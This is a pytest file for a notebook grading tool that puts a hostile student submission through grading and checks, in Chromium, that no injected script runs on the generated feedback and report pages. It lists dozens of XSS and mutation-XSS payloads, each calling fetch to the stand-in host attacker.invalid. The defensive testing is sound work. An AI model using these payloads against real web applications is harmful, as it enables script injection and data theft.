"""What a student prints, shows, raises or writes runs in nobody's browser: every page, opened in real Chromium."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import nbformat
import pytest
import tiny_course
from chromium import chromium, in_a_browser, sync_api
from commands import run
from lab_server import jupyterlab
from nbgrader.api import Gradebook

import grader
from grader.course import load_course

pytestmark = in_a_browser

RUN = "fetch('http://attacker.invalid/');window.owned=(window.owned||0)+1"
VECTORS = [
    f"<script>{RUN}</script>",
    f'<img src="x" onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"></animate></svg>',
    f"<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\">",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<iframe src="http://attacker.invalid/frame"></iframe>',
    f'<body onload="{RUN}" onpageshow="{RUN}">',
    f'<details open ontoggle="{RUN}">x</details>',
    f'<video autoplay onloadstart="{RUN}"><source src="http://attacker.invalid/video" onerror="{RUN}"></video>',
    f'<input autofocus onfocus="{RUN}">',
    f'<div style="animation: x 1s" onanimationstart="{RUN}"></div><style>@keyframes x {{}}</style>',
    '<style>@import "http://attacker.invalid/css"; body { background: url(http://attacker.invalid/bg) }</style>',
    '<link rel="stylesheet" href="http://attacker.invalid/css">',
    '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/meta">',
    '<base href="http://attacker.invalid/">',
    '<img src="http://attacker.invalid/pixel"><img srcset="http://attacker.invalid/set 1x">',
    '<div style="background: url(http://attacker.invalid/style)">x</div>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="http://attacker.invalid/embed">',
    f'<a href="javascript:{RUN}" autofocus>click</a><a href=" jAvA\tscript:{RUN}">click</a>',
    f'<form action="javascript:{RUN}"><button>click</button></form>',
    # What a cleaner and a browser may read differently.
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
    f'"></pre></td></table></script><script>{RUN}</script>',
    f"-->]]><script>{RUN}</script>",
]
MARKDOWN = [
    f"[click](javascript:{RUN})",
    f"[click](<java\nscript:{RUN}>)",
    f"<javascript:{RUN}>",
    "![x](http://attacker.invalid/markdown)",
    f'![x](x "x" onerror="{RUN}")',
    f'```"><script>{RUN}</script>\nx\n```',
    f'# <a name="x" onclick="{RUN}">heading</a> "><img src=x onerror={RUN}>',
    f"$\\href{{javascript:{RUN}}}{{x}}$ $</script><script>{RUN}</script>$",
    f"$\\text{{</mtext></math><img src=x onerror={RUN}>}}$ $\\text{{<script>{RUN}</script>}}$",
    f'![$\\text{{"onerror={RUN}}}$](x) <a title="$x$" name="$\\text{{"onclick={RUN} }}$">x</a>',
    f'\ue0000\ue001 <img alt="\ue0000\ue001" title="$"onerror={RUN}$"> $x$',
    f"# $\\text{{onclick={RUN}}}$ \n<b title='$x$\">$\\text{{<img/src=x/onerror={RUN}>}}$'>x</b>",
    "![x](attachment:x.svg)",
]


def cells() -> list[nbformat.NotebookNode]:
    """A right answer to one problem, and everything that a student can make a page show."""
    code = [
        tiny_course.IMPORTS,
        f"print({chr(10).join(VECTORS)!r})",
        f"import sys\nprint({chr(10).join(VECTORS)!r}, file=sys.stderr)",
        *(f"from IPython.display import HTML\ndisplay(HTML({vector!r}))\nHTML({vector!r})" for vector in VECTORS),
        f"from IPython.display import *\ndisplay(Javascript({RUN!r}), SVG(data={VECTORS[2]!r}))",
        f"display(Markdown({VECTORS[0]!r}), Latex({VECTORS[0]!r}), IFrame('http://attacker.invalid/shown', 9, 9))",
        f"raise type({VECTORS[1]!r}, (Exception,), {{}})({VECTORS[0]!r})",
        f"# </pre></div>{VECTORS[0]}\n{VECTORS[1]!r}",
        tiny_course.ANSWERS["centered"],
        f"def softmax(z):\n    raise type({VECTORS[1]!r}, (Exception,), {{}})({VECTORS[0]!r})",
        f"class Average:\n    def add(self, value):\n        return type({VECTORS[1]!r}, (), {{}})()",
        f"def largest(x):\n    return {{{VECTORS[1]!r}: {VECTORS[0]!r}}}",
    ]
    text = [nbformat.v4.new_markdown_cell(source) for source in (*VECTORS, *MARKDOWN)]
    text[-1]["attachments"] = {"x.svg": {"image/svg+xml": "PHN2Zy8+", f'"><script>{RUN}</script>': "AA=="}}
    raw = nbformat.v4.new_raw_cell(VECTORS[0])
    return [*(nbformat.v4.new_code_cell(source) for source in code), *text, raw]


# But for links that we made, to the files beside a page.
CLICK = """() => {
    const here = location.href.split("#")[0];
    const ours = (one) => /^file:/.test(one.href || "") && !one.href.startsWith(here);
    for (const one of document.querySelectorAll("a, button, summary, input"))
        if (!/^https?:/.test(one.href || "") && !ours(one)) { one.focus && one.focus(); one.click() }
}"""
HANDLERS = """() => [...document.querySelectorAll("*")].flatMap((one) =>
    [...one.attributes].filter((a) => /^on/.test(a.name) || /^\\s*javascript:/i.test(a.value))
        .map((a) => `<${one.tagName} ${a.name}=${a.value}>`))"""


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The pages that a hostile notebook ends up on."""
    root = tiny_course.write(tmp_path_factory.mktemp("course"))
    shutil.copy(Path(__file__).parents[2] / "nbgrader_config.py", root)
    notebook = root / "submitted" / "student01" / "tiny" / "tiny.ipynb"
    notebook.parent.mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(cells=cells()), notebook)
    run(root, "grader", "build")
    run(root, "grader", "autograde", "tiny")
    run(root, "nbgrader", "generate_feedback", "tiny")
    run(root, "grader", "grade", str(notebook), "--html", "report.html")
    course = load_course(root)
    with Gradebook(course.gradebook_url, course.id) as gradebook:
        for number, vector in enumerate(VECTORS):
            gradebook.add_student(f"{number}{vector}"[:128], first_name=vector, last_name=vector)
    run(root, "grader", "report", "tiny")
    run(root, "grader", "report")
    report = json.loads((root / "reports" / "tiny" / "student01.json").read_text())
    assert report["score"] == 40, "its honest part earns what it should, and nothing else does"
    return {
        "feedback": root / "feedback" / "student01" / "tiny" / "tiny.html",
        "report": root / "report.html",
        "class": root / "reports" / "tiny.html",
        "course": root / "reports" / "course-overview.html",
    }


@pytest.fixture(scope="module")
def browser() -> Iterator[sync_api.Browser]:
    with chromium() as started:
        yield started


def happened(browser: sync_api.Browser, file: Path) -> list[str]:
    """What a page did that only its student could want, once somebody has opened it and clicked on everything."""
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (asked.append("attacker: a dialog"), dialog.dismiss()))
    page.goto(file.as_uri(), wait_until="domcontentloaded")
    found = []
    try:
        page.evaluate(CLICK)
        page.wait_for_timeout(500)
        if owned := page.evaluate("window.owned || 0"):
            found.append(f"student code ran {owned} times")
        found += page.evaluate(HANDLERS)
    except sync_api.Error as error:  # "Execution context was destroyed, most likely because of a navigation"
        found.append(f"it led away: {error}")
    found += [url for url in asked if "attacker" in url]
    if not page.url.startswith(file.as_uri()):
        found.append(f"it led to {page.url}")
    page.close()
    return found


@pytest.mark.parametrize("name", ["feedback", "report", "class", "course"])
def test_nothing_of_a_student_s_runs_and_nothing_is_loaded(
    browser: sync_api.Browser, pages: dict[str, Path], name: str
) -> None:
    assert "fetch(" in pages[name].read_text(encoding="utf-8"), "as text, what was tried stands on the page"
    assert happened(browser, pages[name]) == []


def test_on_a_page_that_is_not_made_safe_it_would_run(browser: sync_api.Browser, tmp_path: Path) -> None:
    """Each of the vectors that need no click: else the test above would prove nothing."""
    works = 0
    for number, vector in enumerate(VECTORS):
        (tmp_path / f"{number}.html").write_text(f"<!doctype html><div>{vector}</div>", encoding="utf-8")
        works += bool(happened(browser, tmp_path / f"{number}.html"))
    assert works >= 20


def test_the_page_of_a_submission_allows_no_script_at_all(pages: dict[str, Path]) -> None:
    markup = pages["report"].read_text(encoding="utf-8")
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', markup)
    assert policy is not None
    assert policy[1].startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:;")
    assert "script-src" not in policy[1]


def test_nbgrader_s_feedback_allows_no_script_and_asks_no_other_host(
    browser: sync_api.Browser, pages: dict[str, Path], tmp_path: Path
) -> None:
    markup = pages["feedback"].read_text(encoding="utf-8")
    assert "Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'; img-src data:" in markup
    spoilt = tmp_path / "spoilt.html"
    spoilt.write_text(markup.replace("<body>", f"<body>{VECTORS[0]}{VECTORS[1]}{VECTORS[3]}", 1), encoding="utf-8")
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for file in (pages["feedback"], spoilt):
        asked.clear()
        page.goto(file.as_uri())
        page.wait_for_timeout(300)
        # Bootstrap names a font that is not there; the policy stops even that.
        assert [url for url in asked if not url.startswith(("file:", "data:"))] == []
        assert page.evaluate("window.owned || 0") == 0
    page.close()


def test_nothing_of_a_student_s_runs_on_the_page_to_grade_on(
    browser: sync_api.Browser, pages: dict[str, Path], tmp_path: Path
) -> None:
    """The form grader's page has scripts of its own, and does what it likes with the instructor's JupyterLab."""
    root = pages["class"].parents[1]
    course = load_course(root)
    with Gradebook(course.gradebook_url, course.id) as gradebook:
        identity = gradebook.find_submission_notebook("tiny", "tiny", "student01").id
    page = browser.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (asked.append("attacker: a dialog"), dialog.dismiss()))
    with jupyterlab(tmp_path, root) as lab:
        page.goto(lab.address())
        page.goto(f"{lab.address().partition('/lab')[0]}/formgrader/submissions/{identity}/?index=0")
        sync_api.expect(page.get_by_role("spinbutton").first).to_be_visible()
        assert page.locator("#notebook").first.inner_text().count("fetch('http://attacker.invalid/')") > 50
        page.evaluate("document.querySelectorAll('#notebook a:not([href^=http])').forEach((one) => one.click())")
        page.wait_for_timeout(500)
        assert page.evaluate("window.owned || 0") == 0
        assert [one for one in page.evaluate(HANDLERS) if "=toggle" not in one] == []
        assert [url for url in asked if "attacker" in url] == []
        page.close()


@pytest.mark.parametrize("name", ["class", "course"])
def test_the_pages_of_a_class_allow_one_script_and_that_is_ours(pages: dict[str, Path], name: str) -> None:
    markup = pages[name].read_text(encoding="utf-8")
    ours = (Path(grader.__file__).parent / "templates" / "sort.js").read_text(encoding="utf-8")
    digest = base64.b64encode(hashlib.sha256(ours.encode()).digest()).decode()
    assert f"default-src 'none'; script-src 'sha256-{digest}'; style-src 'unsafe-inline'; img-src data:" in markup
    assert f"<script>{ours}</script>" in markup


@pytest.mark.parametrize("name", ["class", "course"])
def test_in_the_page_of_a_class_no_other_script_would_run(
    browser: sync_api.Browser, pages: dict[str, Path], tmp_path: Path, name: str
) -> None:
    """Were something put on it without being escaped, its policy would stop it."""
    markup = pages[name].read_text(encoding="utf-8")
    spoilt = tmp_path / "spoilt.html"
    spoilt.write_text(markup.replace("<main>", f"<main>{VECTORS[0]}{VECTORS[1]}{VECTORS[3]}"), encoding="utf-8")
    page = browser.new_page()
    page.goto(spoilt.as_uri())
    page.wait_for_timeout(300)
    assert page.evaluate("window.owned || 0") == 0
    page.close()
